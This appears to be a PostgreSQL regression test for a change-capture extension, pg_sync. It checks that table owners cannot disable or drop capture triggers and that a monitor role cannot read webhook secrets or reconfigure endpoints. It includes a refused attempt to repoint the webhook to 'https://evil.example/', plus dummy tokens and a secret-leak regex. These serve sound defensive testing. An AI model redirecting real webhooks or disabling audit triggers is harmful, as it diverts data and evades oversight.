SET SESSION AUTHORIZATION regress_ph_admin;
SELECT pg_sync.track('ph.owned', 'ph-hook');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION regress_ph_owner;
INSERT INTO ph.owned VALUES (2);
-- Replacing pg_sync's trigger with the decoy afterwards is refused (and rolled back).
CREATE OR REPLACE TRIGGER pg_sync_capture AFTER INSERT OR UPDATE OR DELETE ON ph.owned
    FOR EACH ROW EXECUTE FUNCTION ph.owner_decoy();
INSERT INTO ph.owned VALUES (3);
RESET SESSION AUTHORIZATION;
SELECT key FROM ph.queue WHERE tbl = 'ph.owned' ORDER BY id;
SELECT tgname, tgfoid::regprocedure AS function, tgenabled FROM pg_trigger
 WHERE tgrelid = 'ph.owned'::regclass ORDER BY tgname COLLATE "C";

-- Nor may the owner switch pg_sync's own trigger off, rename or drop it, in any spelling, on the
-- table or a partition, while the table is tracked: every such command is refused and rolled
-- back, and everything stays captured. (ENABLE ALWAYS is allowed: it still captures.)
CREATE TABLE ph.owned2 (id int PRIMARY KEY);
CREATE TABLE ph.owned3 (id int PRIMARY KEY);
CREATE TABLE ph.owned_parted (id int, region text, PRIMARY KEY (id, region)) PARTITION BY LIST (region);
CREATE TABLE ph.owned_parted_eu PARTITION OF ph.owned_parted FOR VALUES IN ('eu');
ALTER TABLE ph.owned2 OWNER TO regress_ph_owner;
ALTER TABLE ph.owned3 OWNER TO regress_ph_owner;
ALTER TABLE ph.owned_parted OWNER TO regress_ph_owner;
ALTER TABLE ph.owned_parted_eu OWNER TO regress_ph_owner;
GRANT SELECT, TRIGGER ON ph.owned2, ph.owned3, ph.owned_parted TO regress_ph_admin;
SET SESSION AUTHORIZATION regress_ph_admin;
SELECT pg_sync.track('ph.owned2', 'ph-hook', events => '{insert,update,delete,truncate}');
SELECT pg_sync.track('ph.owned3', 'ph-hook');
SELECT pg_sync.track('ph.owned_parted', 'ph-hook');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION regress_ph_owner;
ALTER TABLE ph.owned2 DISABLE TRIGGER pg_sync_capture;
ALTER TABLE ph.owned2 DISABLE TRIGGER pg_sync_capture_truncate;
ALTER TABLE ph.owned2 DISABLE TRIGGER ALL;
ALTER TABLE ph.owned2 DISABLE TRIGGER USER;
ALTER TABLE ph.owned2 ENABLE REPLICA TRIGGER pg_sync_capture;
ALTER TABLE ph.owned2 ADD COLUMN note text, DISABLE TRIGGER pg_sync_capture;
ALTER TRIGGER pg_sync_capture ON ph.owned2 RENAME TO not_pg_sync;
ALTER TABLE ph.owned_parted DISABLE TRIGGER pg_sync_capture;
ALTER TABLE ph.owned_parted_eu DISABLE TRIGGER pg_sync_capture;
DROP TRIGGER pg_sync_capture ON ph.owned3;
DROP TRIGGER pg_sync_capture_truncate ON ph.owned2;
-- The setting pg_sync uses to let its own trigger changes through is superuser-only.
SET pg_sync.internal_trigger_change = on;
SELECT set_config('pg_sync.internal_trigger_change', 'on', true);
DROP TRIGGER pg_sync_capture ON ph.owned3;
ALTER TABLE ph.owned2 ENABLE ALWAYS TRIGGER pg_sync_capture;
ALTER TABLE ph.owned2 ENABLE TRIGGER pg_sync_capture;
INSERT INTO ph.owned2 VALUES (1);
INSERT INTO ph.owned3 VALUES (1);
INSERT INTO ph.owned_parted VALUES (1, 'eu');
TRUNCATE ph.owned2;
RESET SESSION AUTHORIZATION;
SELECT "table", endpoint FROM pg_sync.tracked_tables WHERE "table"::text LIKE 'ph.owned%' ORDER BY "table"::text COLLATE "C";
SELECT tbl, op, key FROM ph.queue WHERE tbl LIKE 'ph.owned_%' ORDER BY id;
SELECT tgrelid::regclass, tgname, tgenabled FROM pg_trigger
 WHERE tgrelid IN ('ph.owned2'::regclass, 'ph.owned3'::regclass, 'ph.owned_parted'::regclass, 'ph.owned_parted_eu'::regclass)
 ORDER BY tgrelid::regclass::text COLLATE "C", tgname COLLATE "C";
SELECT problem FROM pg_sync.health() WHERE problem NOT IN ('no delivery worker', 'dead letters');

-- Event triggers do not run with session_replication_role = replica (superuser only), so
-- there the commands go through: health() then reports each table whose capture trigger is
-- missing or disabled (critical, per endpoint), and track() again re-creates or re-enables it.
SET session_replication_role = replica;
ALTER TABLE ph.owned2 DISABLE TRIGGER pg_sync_capture;
DROP TRIGGER pg_sync_capture ON ph.owned3;
ALTER TABLE ph.owned_parted_eu ENABLE REPLICA TRIGGER pg_sync_capture;
RESET session_replication_role;
SELECT severity, endpoint, problem, detail FROM pg_sync.health() WHERE problem = 'capture disabled';
SET SESSION AUTHORIZATION regress_ph_admin;
SELECT pg_sync.track('ph.owned2', 'ph-hook', events => '{insert,update,delete,truncate}');
SELECT pg_sync.track('ph.owned3', 'ph-hook');
SELECT pg_sync.track('ph.owned_parted', 'ph-hook');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION regress_ph_owner;
INSERT INTO ph.owned2 VALUES (2);
INSERT INTO ph.owned3 VALUES (2);
INSERT INTO ph.owned_parted VALUES (2, 'eu');
RESET SESSION AUTHORIZATION;
SELECT tbl, op, key FROM ph.queue WHERE tbl LIKE 'ph.owned_%' AND key::text LIKE '%2%' ORDER BY id;
SELECT tgrelid::regclass, tgname, tgenabled FROM pg_trigger
 WHERE tgrelid IN ('ph.owned2'::regclass, 'ph.owned3'::regclass, 'ph.owned_parted'::regclass, 'ph.owned_parted_eu'::regclass)
 ORDER BY tgrelid::regclass::text COLLATE "C", tgname COLLATE "C";
SELECT problem FROM pg_sync.health() WHERE problem NOT IN ('no delivery worker', 'dead letters');

-- What pg_sync does itself still works: untrack drops the triggers, and the owner may drop its
-- tracked table (the triggers go with it, and so does the tracking).
SET SESSION AUTHORIZATION regress_ph_admin;
SELECT pg_sync.untrack('ph.owned_parted');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION regress_ph_owner;
DROP TABLE ph.owned3;
RESET SESSION AUTHORIZATION;
SELECT "table", endpoint FROM pg_sync.tracked_tables WHERE "table"::text LIKE 'ph.owned%' ORDER BY "table"::text COLLATE "C";
SELECT tgrelid::regclass, tgname FROM pg_trigger
 WHERE tgrelid IN ('ph.owned_parted'::regclass, 'ph.owned_parted_eu'::regclass) ORDER BY 1, 2;

-- ==========================================================================================
-- 7. The monitor: reads every status view, which show header names but no header value and
-- no secret; cannot read a table, nor call a configuration function.

SET SESSION AUTHORIZATION regress_ph_monitor;
SELECT 'endpoints' AS view, count(*) AS rows, count(*) FILTER (WHERE v::text ~ '(s3cr3t|tenant-7f3a|whsec_|MDEyMzQ1)') AS leaks FROM pg_sync.endpoints v
UNION ALL
SELECT 'tracked_tables', count(*), count(*) FILTER (WHERE v::text ~ '(s3cr3t|tenant-7f3a|whsec_|MDEyMzQ1)') FROM pg_sync.tracked_tables v
UNION ALL
SELECT 'endpoint_status', count(*), count(*) FILTER (WHERE v::text ~ '(s3cr3t|tenant-7f3a|whsec_|MDEyMzQ1)') FROM pg_sync.endpoint_status v
UNION ALL
SELECT 'dead_letters', count(*), count(*) FILTER (WHERE v::text ~ '(s3cr3t|tenant-7f3a|whsec_|MDEyMzQ1)') FROM pg_sync.dead_letters v
UNION ALL
SELECT 'recent_attempts', count(*), count(*) FILTER (WHERE v::text ~ '(s3cr3t|tenant-7f3a|whsec_|MDEyMzQ1)') FROM pg_sync.recent_attempts v
UNION ALL
SELECT 'workers', count(*), count(*) FILTER (WHERE v::text ~ '(s3cr3t|tenant-7f3a|whsec_|MDEyMzQ1)') FROM pg_sync.workers v;
SELECT name, header_names, has_secret FROM pg_sync.endpoints ORDER BY name COLLATE "C";
SELECT count(*) AS problems FROM pg_sync.health();
SELECT secret FROM pg_sync._endpoints;
SELECT headers FROM pg_sync._endpoints;
SELECT * FROM pg_sync._queue;
SELECT * FROM pg_sync._dead_letters;
SELECT * FROM pg_sync._attempts;
INSERT INTO pg_sync._queue (endpoint_id, op) VALUES (1, 'emit');
SELECT pg_sync.create_endpoint('monitor-hook', 'https://example.com/m');
SELECT pg_sync.alter_endpoint('ph-hook', url => 'https://evil.example/');
SELECT pg_sync.pause_endpoint('ph-hook');
SELECT pg_sync.track('ph.orders', 'ph-hook');
SELECT pg_sync.untrack('ph.orders');
SELECT pg_sync.redeliver('ph-hook');
SELECT pg_sync.purge_dead('ph-hook');
SELECT pg_sync.emit('ph-hook', 'x', '{}');
SELECT pg_sync._endpoint_id('ph-hook');
RESET SESSION AUTHORIZATION;

-- ==========================================================================================
-- 8. The endpoint is as it was created, and clean up (roles are cluster-wide; tests share one
-- database).
SELECT name, url, secret = 'whsec_' || encode(convert_to('0123456789abcdef0123456789abcdef', 'UTF8'), 'base64') AS same_secret,
       headers = '{"Authorization": "Bearer s3cr3t-t0ken", "X-Tenant": "tenant-7f3a"}' AS same_headers, paused
  FROM pg_sync._endpoints ORDER BY name COLLATE "C";
RESET ROLE;
RESET SESSION AUTHORIZATION;
SET client_min_messages = warning;
DROP VIEW ph.queue;
DROP EXTENSION pg_sync CASCADE;
DROP SCHEMA ph, ph_evil CASCADE;
DROP OWNED BY regress_ph_writer, regress_ph_monitor, regress_ph_admin, regress_ph_owner CASCADE;
DROP ROLE regress_ph_writer, regress_ph_monitor, regress_ph_admin, regress_ph_owner;
RESET client_min_messages;
SELECT count(*) AS roles_left FROM pg_roles WHERE rolname LIKE 'regress\_ph\_%';
